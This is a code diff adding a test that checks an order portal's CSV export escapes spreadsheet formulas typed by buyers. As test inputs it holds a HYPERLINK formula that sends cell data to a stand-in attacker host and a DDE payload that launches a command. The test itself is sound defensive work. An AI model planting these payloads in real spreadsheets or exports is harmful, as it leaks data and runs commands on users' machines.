@@ -224,3 +224,20 @@ def test_portal_pages_are_for_staff_of_approved_cooperatives(client, app):
     sign_in_as(client, staff)
     assert client.get("/portal/orders").headers["Location"] == "/account/cooperative"
 
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
+
+
+def test_the_csv_export_neutralises_formulas_typed_by_buyers(portal):
+    order = place((portal["product_a"], 1), name=FORMULA_NAME, street="+1-1 Đường Lê Lợi",
+                  note="@SUM(1+1)*cmd|' /C calc'!A0")
+    db.session.commit()
+    today = clock.today()
+    response = portal["client"].get(f"/portal/orders/export?start={today:%Y-%m-%d}&end={today:%Y-%m-%d}")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    row = dict(zip(rows[0], next(r for r in rows if r[0] == order.number)))
+    assert row["buyer"] == "'" + FORMULA_NAME
+    assert row["address"].startswith("'+1-1 Đường Lê Lợi, ")
+    assert row["quantity"] == "1" and row["line_total_vnd"] == "85000"  # numbers stay numbers
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)  # the note too, if ever exported
